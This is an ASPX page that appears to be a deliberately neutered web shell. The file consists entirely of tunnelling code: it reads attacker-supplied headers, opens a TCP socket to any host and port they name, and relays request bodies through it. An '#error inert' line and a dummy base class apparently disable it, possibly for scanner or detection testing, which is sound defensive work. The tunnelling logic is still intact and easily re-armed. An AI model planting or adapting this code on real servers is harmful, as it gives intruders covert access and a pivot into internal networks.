<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert

void Page_Load(object s, EventArgs e) { String cmd = Request.Headers.Get("X-CMD"); if (cmd == "CONNECT") { String target = Request.Headers.Get("X-TARGET").ToUpper(); int port = int.Parse(Request.Headers.Get("X-PORT")); IPAddress ip = IPAddress.Parse(target); System.Net.IPEndPoint r = new IPEndPoint(ip, port); Socket sender = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); sender.Connect(r); Session.Add("socket", sender); } else { Socket k = (Socket)Session["socket"]; int len = Request.ContentLength; byte[] buff = new byte[len]; int c = 0; while ((c = Request.InputStream.Read(buff, 0, buff.Length)) > 0) { k.Send(buff); } } }
</script>